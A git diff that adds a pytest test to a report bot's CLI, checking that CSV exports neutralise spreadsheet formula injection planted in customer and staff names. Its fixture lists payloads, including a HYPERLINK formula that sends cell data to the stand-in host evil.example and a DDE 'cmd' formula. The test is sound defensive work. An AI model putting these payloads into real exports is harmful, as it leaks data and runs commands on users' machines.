@@ -18,12 +18,14 @@ from typing import Any
 
 import pytest
 import typer
+from sqlmodel import select
 from typer.testing import CliRunner, Result
 
 from bot.cli_report import report_command
 from bot.config import load_settings
 from storage.db import Database
 from storage.migrate import upgrade
+from storage.models import Customer, Staff
 from storage.reports import (
     AgingLine,
     Filters,
@@ -485,3 +487,41 @@ def test_cli_tables_and_usage_errors(cli: Callable[..., Result]) -> None:
     assert cli("aging", "--json", "--csv", "x.csv").exit_code == 2
     assert cli("aging", "--since", "2026-03-01").exit_code == 2
     assert cli("aging", "--as-of", "31/03/2026").exit_code == 2
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "=cmd|' /C calc'!A0", "@SUM(1)")
+
+
+def test_cli_csv_never_hands_a_spreadsheet_a_formula(
+    cli: Callable[..., Result], tmp_path: Path
+) -> None:
+    # Names arrive from imports: a hostile export may carry formulas in any text cell.
+    async def poison() -> None:
+        db = Database(f"sqlite+aiosqlite:///{tmp_path / 'tagih.db'}")
+        async with db.transaction() as session:
+            staff = (await session.exec(select(Staff).where(Staff.name == "Citra"))).one()
+            staff.name = FORMULAS[0]
+            session.add(staff)
+            for customer, formula in zip(
+                (await session.exec(select(Customer).order_by(Customer.code))).all(),
+                FORMULAS[1:],
+                strict=False,
+            ):
+                customer.name = formula
+                session.add(customer)
+        await db.dispose()
+
+    asyncio.run(poison())
+    for report in ("sales", "aging", "late-analysis"):
+        path = tmp_path / f"{report}.csv"
+        result = cli(report, "--as-of", "2026-03-31", "--csv", str(path))
+        assert result.exit_code == 0, result.output
+        with path.open(newline="", encoding="utf-8") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), report
+        if report == "sales":
+            assert "'" + FORMULAS[0] in cells
+        # Negative amounts stay numbers: only text cells are neutralised.
+        assert not any(
+            cell.startswith("'-") and cell[2:].replace(".", "").isdigit() for cell in cells
+        )
